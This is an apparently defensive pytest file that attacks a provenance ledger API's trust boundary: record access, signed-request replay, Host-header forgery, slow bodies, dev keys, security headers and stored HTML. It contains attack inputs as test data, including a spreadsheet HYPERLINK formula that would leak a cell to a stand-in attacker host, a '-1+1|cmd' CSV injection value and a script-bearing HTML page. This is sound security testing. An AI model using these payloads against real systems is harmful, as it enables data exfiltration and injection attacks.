"""The trust boundary of the API, tried as an attacker would: an outsider, a licensed participant of another
country, a party to the wrong record. Each test is the exploit; it failed before the fix (see SECURITY.md)."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import socket
import stat
import subprocess
import sys
import time
from datetime import UTC, datetime

import httpx
import pytest

from kpledger.api.routes.statistics import cell
from kpledger.core.config import Settings
from kpledger.dev.stack import dev_key
from kpledger.signing.requests import sign_request
from tests.support.prints import qr_texts
from tests.support.scenarios import UNSORTED, ThreeCountries, sha
from tests.support.stack import ROLE_PRODUCER, Direct, Server, signed, start_server, wait_indexed

EVIL = "kp-verify.evil.example"  # a host the attacker controls
REAL_KEY = "0x" + hashlib.sha256(b"a production relayer key").hexdigest()


def file_certificate(server: Server, direct: Direct, journey: ThreeCountries,
                     content_type: str = "application/json") -> bytes:
    """Files the scenario's EU certificate document (its SHA-256 is on chain); returns it."""
    document = journey.documents["EU0000001"]
    path = "/v1/documents/certificates/EU0000001"
    headers = signed(server, direct.actors["eu_authority"].key, "PUT", path, document, content_type=content_type)
    with server.client() as c:
        assert c.put(path, content=document, headers=headers).status_code == 200
    return document


# ---------------------------------------------------------------- documents belong to their record


def test_a_producer_cannot_read_a_certificate_document_through_its_own_parcel(server, journey, direct):
    """A CA producer registers its own parcel anchoring the EU certificate's public document hash, then asks for
    its parcel's document: it must not get the certificate's (value in USD, importer name)."""
    certificate = file_certificate(server, direct, journey)
    anchored = "0x" + hashlib.sha256(certificate).hexdigest()
    with server.client() as c:
        assert c.get("/v1/certificates/EU0000001").json()["document_hash"] == anchored  # public on chain
    direct.send("ca_mine", direct.ledger, "registerParcel", 100, 1, 710210, "CA", bytes.fromhex(anchored[2:]))
    parcel = direct.ledger.functions.lastLotId().call()
    wait_indexed(server, direct)
    path = f"/v1/documents/parcels/{parcel}"
    with server.client() as c:
        answer = c.get(path, headers=signed(server, direct.actors["ca_mine"].key, "GET", path))
    assert answer.content != certificate
    assert (answer.status_code, answer.json()["code"]) == (404, "DocumentNotFiled")


def test_a_filed_document_keeps_its_first_content_type(server, journey, direct):
    """A party re-files the same bytes as HTML: the document must keep the type it was first filed with."""
    certificate = file_certificate(server, direct, journey, "application/json")
    path = "/v1/documents/certificates/EU0000001"
    key = direct.actors["eu_authority"].key
    with server.client() as c:
        again = c.put(path, content=certificate,
                      headers=signed(server, key, "PUT", path, certificate, content_type="text/html"))
        assert (again.status_code, again.json()["code"]) == (409, "DocumentAlreadyFiled")
        same = c.put(path, content=certificate, headers=signed(server, key, "PUT", path, certificate,
                                                             content_type="application/json",
                                                             timestamp=int(time.time()) + 1))
        assert same.status_code == 200 and same.json()["already_filed"]  # filing the same thing again is harmless
        served = c.get(path, headers=signed(server, key, "GET", path))
    assert served.headers["content-type"].startswith("application/json")


# ---------------------------------------------------------------- signed requests


@pytest.mark.parametrize("header,value", [
    ("X-KP-Timestamp", "²³"),  # isdigit() is true, int() refuses
    ("X-KP-Timestamp", "9" * 5_000),  # beyond Python's int conversion limit
    ("X-KP-Timestamp", "-1"),
    ("X-KP-Signer", "0xnot-an-address"),
    ("X-KP-Signature", "0x" + "zz" * 65),
    ("X-KP-Signature", "0x" + "00" * 10_000),
], ids=["superscript-digits", "5000-digits", "negative", "bad-signer", "non-hex-signature", "huge-signature"])
def test_malformed_signed_request_headers_get_a_401_with_a_code(server, header, value):
    path = "/v1/documents/certificates/EU0000001"
    headers = {**signed(server, dev_key(5), "GET", path), header: value}
    raw = {k: v.encode("latin-1") for k, v in headers.items()}
    answer = httpx.get(server.url + path, headers=raw)
    assert answer.status_code == 401
    assert answer.json()["code"] in ("MalformedRequestSignature", "StaleRequest")


def test_a_signed_document_request_cannot_be_replayed(server, journey, direct):
    file_certificate(server, direct, journey)
    path = "/v1/documents/certificates/EU0000001"
    headers = signed(server, direct.actors["in_cutter"].key, "GET", path)
    with server.client() as c:
        assert c.get(path, headers=headers).status_code == 200
        replay = c.get(path, headers=headers)
    assert (replay.status_code, replay.json()["code"]) == (401, "ReplayedRequest")


def test_a_signed_request_is_bound_to_host_chain_and_query(server, journey, direct):
    file_certificate(server, direct, journey)
    path = "/v1/documents/certificates/EU0000001"
    key = direct.actors["in_cutter"].key
    with server.client() as c:
        other_host = signed(server, key, "GET", path)
        other_host_answer = c.get(path, headers={**other_host, "Host": "kp.other-backend.example"})
        assert other_host_answer.status_code == 401
        other_query = c.get(path + "?download=1", headers=signed(server, key, "GET", path))
        assert other_query.status_code == 401
        other_chain = c.get(path, headers=signed(server, key, "GET", path, chain_id=1))
        assert other_chain.status_code == 401
        assert c.get(path + "?download=1", headers=signed(server, key, "GET", path + "?download=1")).status_code == 200


# ---------------------------------------------------------------- the edges of the HTTP server


def test_health_does_not_leak_the_rpc_url(node):
    secret = "s3cr3t-api-key"
    srv = start_server(node, extra_env={"KP_RPC_URL": f"http://user:{secret}@127.0.0.1:{node.port}/?key={secret}"})
    try:
        assert httpx.get(srv.url + "/healthz").status_code in (200, 503)
        node.close()
        down = httpx.get(srv.url + "/healthz", timeout=60)
        assert (down.status_code, down.json()["code"]) == (503, "ChainUnavailable")
        assert secret not in down.text and str(node.port) not in down.text
    finally:
        srv.close()


@pytest.mark.parametrize("path", ["/v1/verify", "/v1/parcels"], ids=["read-route", "write-route"])
def test_a_trickling_body_is_cut_off(node, path):
    """A body that does not arrive within KP_BODY_TIMEOUT_SECONDS gets 408 RequestTimeout, on a route that reads its
    body itself (verify) and on a write, whose body FastAPI parses (it used to answer 400 there)."""
    srv = start_server(node, extra_env={"KP_BODY_TIMEOUT_SECONDS": "2"})
    try:
        with socket.create_connection(("127.0.0.1", srv.port), timeout=10) as s:
            s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      "Content-Length: 100\r\n\r\n{\"ab".encode())
            started = time.monotonic()
            answer = b""
            while b"}" not in answer.partition(b"\r\n\r\n")[2] and (chunk := s.recv(4096)):
                answer += chunk  # the head and the JSON body may arrive in separate segments
        assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
        assert b'"code":"RequestTimeout"' in answer, answer
        assert time.monotonic() - started < 8
    finally:
        srv.close()


def test_the_database_holding_documents_is_not_world_readable(server, node):
    mode = stat.S_IMODE(os.stat(node.data_dir / "kp.db").st_mode)
    assert mode & 0o077 == 0, oct(mode)


@pytest.mark.parametrize("method,path,allowed", [("DELETE", "/v1/parcels/1", "GET"), ("PUT", "/v1/parcels", "POST"),
                                                 ("GET", "/v1/consignments", "POST"), ("POST", "/v1/parcels/1", "GET")])
def test_unsupported_methods_on_api_paths_name_the_api_methods(server, method, path, allowed):
    answer = httpx.request(method, server.url + path)
    assert (answer.status_code, answer.json()["code"]) == (405, "MethodNotAllowed")
    assert answer.headers["allow"] == allowed


def test_unknown_api_paths_are_json_404s(server):
    answer = httpx.get(server.url + "/v1/no-such-thing")
    assert (answer.status_code, answer.json()["code"]) == (404, "NotFound")


# ---------------------------------------------------------------- the development key


ANVIL_0 = dev_key(0).hex()


@pytest.mark.parametrize("key", [ANVIL_0, "0x" + ANVIL_0.upper(), "0X" + ANVIL_0, dev_key(3).hex(),
                                 "0x" + dev_key(7).hex(), dev_key(999).hex()],
                         ids=["no-0x", "capitals", "0X", "anvil-3", "anvil-7", "mnemonic-999"])
def test_development_keys_are_refused_in_production(tmp_path, key):
    with pytest.raises(ValueError, match="development"):
        Settings(environment="production", relayer_key=key, data_dir=tmp_path)


@pytest.mark.parametrize("key, reason", [
    ("0x" + dev_key(0).hex(), "KP_RELAYER_KEY is key #0 of the public development mnemonic: set a real key in "
     "production"),
    ("0x" + hashlib.sha256(b"a secret key mistyped").hexdigest()[:63] + "g",
     "KP_RELAYER_KEY is not a private key (64 hex digits, with or without 0x)")], ids=["development", "mistyped"])
def test_the_production_start_up_refusal_names_the_setting_and_prints_no_part_of_the_key(tmp_path, key, reason):
    """The refusal says which setting is wrong and why, on one line, without a traceback or any run of the key's
    hex digits. Before the fix pydantic's message repeated the settings' input, ending with the last 22 characters
    of the key ("input_value={'environment': 'producti...8c7a8412f4603b6b78690d'}")."""
    env = {**os.environ, "KP_ENVIRONMENT": "production", "KP_RELAYER_KEY": key, "KP_DATA_DIR": str(tmp_path)}
    done = subprocess.run([sys.executable, "-m", "kpledger.api"], env=env, cwd=tmp_path, capture_output=True,
                          text=True, timeout=120)
    output = done.stdout + done.stderr
    assert done.returncode == 2, output
    assert output == f"error InvalidSettings: {reason}\n", output
    digits = key.lower().removeprefix("0x")
    leaked = {digits[i:i + 6] for i in range(len(digits) - 5)} & {
        output.lower()[i:i + 6] for i in range(len(output) - 5)}
    assert not leaked, leaked


def test_a_real_key_is_accepted_in_production(tmp_path):
    assert Settings(environment="production", relayer_key=REAL_KEY, data_dir=tmp_path,
                    public_base_url="https://kp.example", id_base_url="https://kp.example").environment == "production"


# ---------------------------------------------------------------- the ledger's own URLs, whatever Host a request names


def forged_host(key: bytes, method: str, path: str, body: bytes = b"", content_type: str = "") -> dict[str, str]:
    """A request signed for the attacker's host and sent with `Host: kp-verify.evil.example` (the signature binds
    the Host, so the attacker signs for the one it sends)."""
    headers = sign_request(key, method, f"http://{EVIL}{path}", body, chain_id=31337, content_type=content_type)
    return {**headers, **({"content-type": content_type} if content_type else {}), "Host": EVIL}


def test_a_party_cannot_plant_its_own_qr_code_in_the_printed_certificate(server, journey, direct):
    """The first filing prints the certificate once and keeps that PDF (its SHA-256 is published): filed with a
    forged Host, the printed QR code must still open the ledger's own verification page."""
    document = journey.documents["EU0000001"]
    path = "/v1/documents/certificates/EU0000001"
    key = direct.actors["eu_authority"].key
    with server.client() as c:
        filed = c.put(path, content=document, headers=forged_host(key, "PUT", path, document, "application/json"))
        assert filed.status_code == 200, filed.text
        printable = "/v1/certificates/EU0000001/printable.pdf"
        pdf = c.get(printable, headers=signed(server, key, "GET", printable))
        html = c.get("/v1/certificates/EU0000001/printable",
                     headers=forged_host(key, "GET", "/v1/certificates/EU0000001/printable"))
    genuine = f"{server.url}/#/certificate/EU0000001"
    assert pdf.status_code == 200 and qr_texts(pdf.content) == [genuine]
    assert html.status_code == 200 and genuine in html.text and EVIL not in html.text


def test_a_forged_host_reaches_no_slip_identifier_or_redirect(server, journey, direct):
    """The slip, an EPCIS export, the event query's next-page link and the identifier resolver name the ledger's
    configured URLs (here the listen address), never the Host a request names."""
    lot = 1
    forged = {"Host": EVIL}
    with server.client() as c:
        slip = c.get("/v1/certificates/EU0000001/slip.pdf", headers=forged)
        export = c.get(f"/v1/epcis/lots/{lot}", headers=forged)
        events = c.get("/v1/epcis/events", params={"perPage": 1}, headers=forged)
        redirect = c.get(f"/id/lot/{lot}", headers={**forged, "accept": "text/html"})
        resolved = c.get(f"/id/lot/{lot}", headers={**forged, "accept": "application/json"})
    assert qr_texts(slip.content) == [f"{server.url}/#/certificate/EU0000001"]
    assert export.status_code == 200 and f"{server.url}/id/lot/{lot}" in export.text and EVIL not in export.text
    assert events.headers["link"].startswith(f"<{server.url}/v1/epcis/events?"), events.headers["link"]
    assert EVIL not in events.text
    assert (redirect.status_code, redirect.headers["location"]) == (303, f"{server.url}/#/lot/{lot}")
    assert resolved.json()["links"] == {"viewer": f"{server.url}/#/lot/{lot}",
                                        "epcis": f"{server.url}/v1/epcis/lots/{lot}"}
    assert EVIL not in resolved.text + resolved.headers["link"]


def test_production_refuses_to_start_without_its_public_urls(tmp_path):
    for missing in ({"public_base_url": "https://kp.example"}, {"id_base_url": "https://kp.example"}, {}):
        with pytest.raises(ValueError, match="KP_PUBLIC_BASE_URL and KP_ID_BASE_URL"):
            Settings(environment="production", relayer_key=REAL_KEY, data_dir=tmp_path, **missing)
    env = {k: v for k, v in os.environ.items() if not k.startswith("KP_")}
    started = subprocess.run([sys.executable, "-m", "kpledger.api"], capture_output=True, text=True, timeout=60,
                             env={**env, "KP_ENVIRONMENT": "production", "KP_RELAYER_KEY": REAL_KEY,
                                  "KP_DATA_DIR": str(tmp_path)})
    assert started.returncode == 2, started
    assert "KP_PUBLIC_BASE_URL and KP_ID_BASE_URL" in started.stderr and "Traceback" not in started.stderr, started


def test_outside_production_the_urls_default_to_the_listen_address(tmp_path):
    settings = Settings(environment="development", port=8123, data_dir=tmp_path)
    assert (settings.public_base_url, settings.id_base_url) == ("http://127.0.0.1:8123", "http://127.0.0.1:8123")
    wildcard = Settings(environment="test", host="0.0.0.0", port=9000, data_dir=tmp_path,
                        public_base_url="https://kp.example/")
    assert (wildcard.public_base_url, wildcard.id_base_url) == ("https://kp.example", "http://127.0.0.1:9000")
    assert Settings(host="::1", port=80, data_dir=tmp_path).public_base_url == "http://[::1]:80"


# ---------------------------------------------------------------- what a browser is told


HTML_PAGES = ["/", "/index.html", "/console/", "/docs"]


@pytest.mark.parametrize("path", HTML_PAGES)
def test_html_pages_cannot_be_framed_or_sniffed_and_load_only_their_own_code(server, path):
    page = httpx.get(server.url + path)
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert_guarded(page)


def assert_guarded(page: httpx.Response) -> None:
    policy = {d.split()[0]: d.split()[1:] for d in page.headers["content-security-policy"].split("; ")}
    assert policy["frame-ancestors"] == ["'none'"] and policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert "'unsafe-inline'" not in policy.get("script-src", policy.get("default-src"))
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"


def test_the_printable_certificate_cannot_be_framed(server, journey, direct):
    file_certificate(server, direct, journey)
    path = "/v1/certificates/EU0000001/printable"
    page = httpx.get(server.url + path, headers=signed(server, direct.actors["eu_authority"].key, "GET", path))
    assert page.status_code == 200
    assert_guarded(page)


@pytest.mark.parametrize("filed_as", ["text/html", "image/svg+xml", "application/xhtml+xml; charset=utf-8"])
def test_a_document_is_never_served_as_the_filer_typed_it(server, journey, direct, filed_as):
    """A party files a parcel document as HTML (a stored page on the API's origin, if served so): it is served as
    opaque bytes to download, whatever type it was filed with."""
    page = b"<html><script>fetch('/v1/accounts')</script></html>"
    direct.send("ca_mine", direct.ledger, "registerParcel", 100, 1, UNSORTED, "CA", hashlib.sha256(page).digest())
    parcel = direct.ledger.functions.lastLotId().call()
    wait_indexed(server, direct)
    path = f"/v1/documents/parcels/{parcel}"
    key = direct.actors["ca_mine"].key
    with server.client() as c:
        filed = c.put(path, content=page, headers=signed(server, key, "PUT", path, page, content_type=filed_as))
        assert filed.status_code == 200, filed.text
        served = c.get(path, headers=signed(server, key, "GET", path))
    assert served.content == page
    assert served.headers["content-type"] == "application/octet-stream"
    assert served.headers["content-disposition"] == f'attachment; filename="parcel-{parcel}"'
    assert served.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in served.headers["content-security-policy"]
    assert served.headers["x-kp-content-type"] == filed_as  # what the filer said, for the record only


def test_a_name_cannot_become_a_formula_in_a_csv_download(server, direct):
    """Governance admits a participant whose name is a spreadsheet formula: in the summary CSV the cell must be
    text (OWASP: a leading quote), and the figures stay numbers."""
    formula = '=HYPERLINK("http://kp-verify.evil.example/?leak="&A1,"Botswana")'
    direct.send("governance", direct.registry, "admitParticipant", "BW", formula)
    direct.send("governance", direct.registry, "appointAuthority", "BW", direct.actors["bw_authority"].address,
                "-1+1|cmd")
    direct.license("bw_authority", "mine", ROLE_PRODUCER)
    direct.send("mine", direct.ledger, "registerParcel", 150, 1, UNSORTED, "BW", sha("formula"))
    wait_indexed(server, direct)
    year = datetime.now(UTC).year
    with server.client() as c:
        answer = c.get("/v1/statistics/summary", params={"year": year, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert rows and {r["name"] for r in rows} == {"'" + formula}, answer.text
    produced = [(r["carats"], r["certificates_or_parcels"]) for r in rows
                if (r["measure"], r["period"]) == ("production", str(year))]
    assert produced == [("1.50", "1")], answer.text


@pytest.mark.parametrize("value,written", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1+1|cmd", "'-1+1|cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("Botswana", "Botswana"), ("-12.50", "-12.50"), (-3, -3), (1.5, 1.5), ("", "")])
def test_csv_cells_that_start_like_a_formula_are_text(value, written):
    assert cell(value) == written
